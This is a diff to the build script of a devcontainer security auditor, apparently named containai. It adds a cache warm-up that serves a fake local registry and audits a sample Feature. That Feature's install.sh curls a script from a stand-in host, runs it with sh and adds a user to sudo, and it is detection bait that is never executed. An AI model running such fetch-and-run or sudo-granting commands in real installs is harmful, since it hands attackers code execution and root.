@@ -2,9 +2,11 @@
  * The part of the build that lets a start skip most of its compiling: marks dist/commands.cjs with a line of its own and writes dist/commands.cache, the
  * code that this version of the engine made of it. See src/machine/load-script.ts, which reads both.
  */
-import { randomBytes } from 'node:crypto';
-import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { createHash, randomBytes } from 'node:crypto';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
 import { createRequire } from 'node:module';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Script } from 'node:vm';
 
@@ -17,7 +19,113 @@ export async function writeScriptCache(dist, example) {
   const script = new Script(`(function(module,exports,require,__filename){${source}\n})`, { filename: path });
   const module = { exports: {} };
   script.runInThisContext()(module, module.exports, createRequire(path), path);
-  if (existsSync(example))
-    await module.exports.runners.audit([example], { version: '', print() {}, complain() {}, isTerminal: false, width: 100, noColor: true });
+  const { audit } = module.exports.runners;
+  if (existsSync(example)) await audit([example], { ...silent, print() {} });
+  await auditLookedUp(audit);
   writeFileSync(join(dist, 'commands.cache'), Buffer.concat([Buffer.from(id), script.createCachedData()]));
+}
+
+const silent = { version: '', complain() {}, isTerminal: false, width: 100, noColor: true };
+
+/**
+ * Audits a configuration whose image and Feature are looked up in a registry of the build's own, and again with all of it in the cache, so that the
+ * functions of both are compiled too. Nobody else is asked.
+ */
+async function auditLookedUp(audit) {
+  const folder = mkdtempSync(join(tmpdir(), 'containai-build-'));
+  const before = { ...process.env };
+  const server = createServer(serve(thingsOfRegistry()));
+  try {
+    await new Promise((settle, fail) => server.once('error', fail).listen(0, '127.0.0.1', settle));
+    const host = `localhost:${server.address().port}`;
+    writeFileSync(join(folder, 'advisories.json'), '{ "disallowedFeatures": [], "featureAdvisories": [] }');
+    writeFileSync(
+      join(folder, '.devcontainer.json'),
+      JSON.stringify({ image: `${host}/base:1`, features: { [`${host}/build/tool:1`]: {} } }),
+    );
+    Object.assign(process.env, {
+      XDG_CACHE_HOME: folder,
+      XDG_CONFIG_HOME: folder,
+      DOCKER_HOST: `unix://${join(folder, 'none.sock')}`,
+      NO_PROXY: 'localhost',
+    });
+    let report = '';
+    const print = (part) => void (report += part);
+    for (let run = 0; run < 2; run++)
+      await audit(['--resolve', '--advisories', join(folder, 'advisories.json'), folder], { ...silent, print });
+    if (!report.includes('feature-grants-rights'))
+      console.error(`Lookups will start more slowly, since the one of the build failed:\n${report}`);
+  } catch (error) {
+    // Where nobody may listen, for instance.
+    console.error(`Lookups will start more slowly, since the one of the build failed: ${error.message}`);
+  } finally {
+    server.closeAllConnections();
+    server.close();
+    for (const name of Object.keys(process.env)) if (!(name in before)) delete process.env[name];
+    Object.assign(process.env, before);
+    rmSync(folder, { recursive: true, force: true });
+  }
+}
+
+/** What the registry has, by path: `[type, body]`. */
+function thingsOfRegistry() {
+  const script =
+    'set -e\ncurl -o /tmp/get https://example.test/get\nif [ -f /tmp/get ]; then sh "$(echo /tmp/get)"; fi\nusermod -aG sudo dev\n';
+  const metadata = '{ "id": "tool", "version": "1.0.0", "containerEnv": { "TOOL": "1" } }';
+  const archive = tarOf({ 'devcontainer-feature.json': metadata, 'install.sh': script });
+  const config = Buffer.from(
+    JSON.stringify({ architecture: 'amd64', os: 'linux', config: { Env: ['A=1'], Cmd: ['sh'] }, rootfs: { type: 'layers', diff_ids: [] } }),
+  );
+  const things = new Map();
+  const manifest = 'application/vnd.oci.image.manifest.v1+json';
+  const add = (name, blob, parts) => {
+    const digest = digestOf(blob);
+    things.set(`/v2/${name}/blobs/${digest}`, ['application/octet-stream', blob]);
+    const body = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: manifest, ...parts(digest, blob.length) }));
+    for (const reference of ['1', digestOf(body)]) things.set(`/v2/${name}/manifests/${reference}`, [manifest, body]);
+  };
+  add('build/tool', archive, (digest, size) => ({
+    config: { mediaType: 'application/vnd.devcontainers', digest: digestOf(''), size: 0 },
+    layers: [{ mediaType: 'application/vnd.devcontainers.layer.v1+tar', digest, size }],
+  }));
+  add('base', config, (digest, size) => ({ config: { mediaType: 'application/vnd.oci.image.config.v1+json', digest, size }, layers: [] }));
+  return things;
+}
+
+function serve(things) {
+  return (request, response) => {
+    const [type, body] = things.get(request.url) ?? [];
+    response.writeHead(
+      type === undefined ? 404 : 200,
+      type === undefined ? {} : { 'content-type': type, 'docker-content-digest': digestOf(body) },
+    );
+    response.end(body);
+  };
+}
+
+function digestOf(body) {
+  return `sha256:${createHash('sha256').update(body).digest('hex')}`;
+}
+
+/** A tar archive of texts (POSIX ustar). */
+function tarOf(files) {
+  const parts = Object.entries(files).map(([name, text]) => {
+    const body = Buffer.from(text);
+    const head = Buffer.alloc(512);
+    head.write(name);
+    head.write('0000755', 100);
+    head.write(body.length.toString(8).padStart(11, '0'), 124);
+    head.fill(' ', 148, 156);
+    head.write('0', 156);
+    head.write('ustar\u000000', 257);
+    head.write(
+      head
+        .reduce((sum, byte) => sum + byte, 0)
+        .toString(8)
+        .padStart(6, '0'),
+      148,
+    );
+    return Buffer.concat([head, body, Buffer.alloc((512 - (body.length % 512)) % 512)]);
+  });
+  return Buffer.concat([...parts, Buffer.alloc(1024)]);
 }
